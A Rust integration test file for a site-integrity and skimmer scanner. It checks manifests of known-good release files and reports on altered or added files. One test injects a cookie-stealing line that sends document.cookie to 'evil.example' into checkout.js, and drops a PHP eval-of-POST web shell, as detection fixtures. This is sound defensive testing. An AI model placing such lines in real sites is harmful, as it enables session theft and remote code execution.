//! Known-good manifests: `skimlint manifest create` from a folder and from archives gives the
//! same manifest; `check --known-good` skips unchanged release files, reports a modified core
//! file and a new code file, and leaves the rules' findings as they are.

mod common;
use common::{fixture, json_findings, skimlint};
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};

use serde_json::Value;

/// A small release: (path under the release root, content).
const RELEASE: &[(&str, &str)] = &[
    (
        "index.php",
        "<?php\nrequire __DIR__ . '/wp-includes/load.php';\n",
    ),
    (
        "wp-includes/load.php",
        "<?php\nfunction wp_load() {\n    return 1;\n}\n",
    ),
    (
        "wp-includes/js/checkout.js",
        "document.querySelector('form').addEventListener('submit', function () {});\n",
    ),
    ("wp-admin/admin.php", "<?php\n// admin\n"),
    ("wp-includes/images/logo.svg", "<svg></svg>\n"),
];

fn write_tree(root: &Path, files: &[(&str, &str)]) {
    for (p, text) in files {
        let path = root.join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

fn zip_of(top: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, text) in files {
        w.start_file(format!("{top}{name}"), opts).unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn tgz_of(top: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, text) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(text.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        b.append_data(&mut h, format!("{top}{name}"), text.as_bytes())
            .unwrap();
    }
    let tar = b.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

fn create(source: &Path, out: &Path) -> Value {
    skimlint()
        .args(["manifest", "create"])
        .arg(source)
        .arg("-o")
        .arg(out)
        .assert()
        .success();
    serde_json::from_slice(&std::fs::read(out).unwrap()).unwrap()
}

/// `check PATH --known-good MANIFEST --format json`: (exit code, document).
fn check(path: &Path, manifests: &[&Path], extra: &[&str]) -> (i32, Value) {
    let mut cmd = skimlint();
    cmd.arg("check")
        .arg(path)
        .args(["--format", "json", "--no-config", "--no-cache"]);
    for m in manifests {
        cmd.arg("--known-good").arg(m);
    }
    cmd.args(extra);
    let out = cmd.output().unwrap();
    let code = out.status.code().unwrap();
    assert!(code <= 1, "{}", String::from_utf8_lossy(&out.stderr));
    (code, serde_json::from_slice(&out.stdout).unwrap())
}

fn of_rule<'a>(doc: &'a Value, rule: &str) -> Vec<&'a str> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == rule)
        .map(|f| f["location"]["path"].as_str().unwrap())
        .collect()
}

#[test]
fn manifests_from_a_zip_a_tgz_and_the_unpacked_folder_are_equal() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("release");
    write_tree(&folder, RELEASE);
    let zip = dir.path().join("release.zip");
    std::fs::write(&zip, zip_of("release/", RELEASE)).unwrap();
    let tgz = dir.path().join("release.tgz");
    std::fs::write(&tgz, tgz_of("./release/", RELEASE)).unwrap();
    let from_folder = create(&folder, &dir.path().join("f.json"));
    let from_zip = create(&zip, &dir.path().join("z.json"));
    let from_tgz = create(&tgz, &dir.path().join("t.json"));
    assert_eq!(from_folder["format"], "skimlint-manifest");
    assert_eq!(from_folder["version"], 1);
    assert_eq!(from_folder["files"], from_zip["files"]);
    assert_eq!(from_folder["files"], from_tgz["files"]);
    let files = from_folder["files"].as_array().unwrap();
    assert_eq!(files.len(), RELEASE.len());
    let load = files
        .iter()
        .find(|f| f["path"] == "wp-includes/load.php")
        .unwrap();
    let text = RELEASE[1].1;
    assert_eq!(load["size"], text.len());
    assert_eq!(
        load["sha256"].as_str().unwrap(),
        skimlint::scan::manifest::hex(&<sha2::Sha256 as sha2::Digest>::digest(text.as_bytes()))
    );
    // --keep-top-folder keeps the archive's top folder.
    let kept = dir.path().join("k.json");
    skimlint()
        .args(["manifest", "create", "--keep-top-folder"])
        .arg(&zip)
        .arg("-o")
        .arg(&kept)
        .assert()
        .success();
    let kept: Value = serde_json::from_slice(&std::fs::read(&kept).unwrap()).unwrap();
    assert!(kept["files"][0]["path"]
        .as_str()
        .unwrap()
        .starts_with("release/"));
}

#[test]
fn unchanged_release_gives_no_finding_and_is_not_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let zip = dir.path().join("release.zip");
    std::fs::write(&zip, zip_of("release/", RELEASE)).unwrap();
    let manifest = dir.path().join("m.json");
    create(&zip, &manifest);
    // Installed one folder down: the manifest anchors itself.
    let site = dir.path().join("site");
    write_tree(&site.join("public_html"), RELEASE);
    let (code, doc) = check(&site, &[&manifest], &[]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["findings"].as_array().unwrap().len(), 0, "{doc}");
    assert_eq!(doc["files_known_good"], RELEASE.len());
    assert_eq!(doc["files_scanned"], 0);
    assert_eq!(doc["problems"].as_array().unwrap().len(), 0, "{doc}");
}

#[test]
fn a_modified_core_file_and_a_new_code_file_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    let release = dir.path().join("release");
    write_tree(&release, RELEASE);
    let manifest = dir.path().join("m.json");
    create(&release, &manifest);
    let site = dir.path().join("site");
    write_tree(&site, RELEASE);
    // One injected line in a core file, one dropped file next to core files, one new file in a
    // folder the release does not have, and a new non-code file.
    let checkout = site.join("wp-includes/js/checkout.js");
    let mut text = std::fs::read_to_string(&checkout).unwrap();
    text.push_str("new Image().src='https://evil.example/c?d='+btoa(document.cookie);\n");
    std::fs::write(&checkout, text).unwrap();
    std::fs::write(
        site.join("wp-includes/class-wp-cache.php"),
        "<?php\n@eval($_POST['c']);\n",
    )
    .unwrap();
    std::fs::create_dir_all(site.join("wp-content/uploads")).unwrap();
    std::fs::write(site.join("wp-content/uploads/x.php"), "<?php\n").unwrap();
    std::fs::write(site.join("wp-includes/readme.txt"), "notes\n").unwrap();
    let (code, doc) = check(&site, &[&manifest], &[]);
    assert_eq!(code, 1);
    assert_eq!(
        of_rule(&doc, "integrity/modified-core-file"),
        vec!["wp-includes/js/checkout.js"]
    );
    assert_eq!(
        of_rule(&doc, "integrity/unexpected-file"),
        vec!["wp-includes/class-wp-cache.php"]
    );
    // The changed and new files are still analysed by the rules.
    assert!(
        !of_rule(&doc, "php/eval-of-request-data").is_empty(),
        "{doc}"
    );
    assert_eq!(doc["files_known_good"], RELEASE.len() - 1);
    // A suppression comment in the modified file cannot hide the integrity finding.
    let load = site.join("wp-includes/load.php");
    std::fs::write(
        &load,
        "// skimlint-ignore integrity/modified-core-file: trust me\n<?php\n",
    )
    .unwrap();
    let (_, doc) = check(&site, &[&manifest], &[]);
    assert!(of_rule(&doc, "integrity/modified-core-file").contains(&"wp-includes/load.php"));
    // The same through `known-good` in skimlint.toml, relative to its folder.
    let config = dir.path().join("skimlint.toml");
    std::fs::write(&config, "known-good = [\"m.json\"]\n").unwrap();
    let out = skimlint()
        .arg("check")
        .arg(&site)
        .args(["--format", "json", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(of_rule(&doc, "integrity/modified-core-file").len(), 2);
}

#[test]
fn a_manifest_matching_nothing_is_a_warning_and_a_bad_one_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let release = dir.path().join("release");
    write_tree(&release, RELEASE);
    let manifest = dir.path().join("m.json");
    create(&release, &manifest);
    let (_, doc) = check(&fixture("woocommerce-infected"), &[&manifest], &[]);
    let problems = doc["problems"].as_array().unwrap();
    assert!(
        problems.iter().any(|p| p["message"]
            .as_str()
            .unwrap()
            .contains("no scanned file is at a path it lists")),
        "{doc}"
    );
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, "{\"format\": \"skimlint-manifest\", \"version\": 9}").unwrap();
    skimlint()
        .args(["check", "--no-config", "--known-good"])
        .arg(&bad)
        .arg(&release)
        .assert()
        .code(2);
}

/// The rules' findings do not change with manifests: only files that match a manifest drop out.
#[test]
fn rule_findings_are_unchanged_with_manifests() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = dir.path().join("clean.json");
    create(&fixture("woocommerce-clean"), &manifest);
    let magento = dir.path().join("magento.json");
    create(&fixture("magento2-clean"), &magento);
    let roots: Vec<PathBuf> = std::fs::read_dir(common::root().join("fixtures"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    let without = json_findings(&roots, |_| {});
    let with = json_findings(&roots, |c| {
        c.arg("--known-good")
            .arg(&manifest)
            .arg("--known-good")
            .arg(&magento);
    });
    let rules_only = |v: &Value| -> Vec<Value> {
        v.as_array()
            .unwrap()
            .iter()
            .filter(|f| !f["rule_id"].as_str().unwrap().starts_with("integrity/"))
            .cloned()
            .collect()
    };
    assert!(!without.as_array().unwrap().is_empty());
    // The clean fixtures have no findings, so matching them changes nothing.
    assert_eq!(rules_only(&with), rules_only(&without));
}
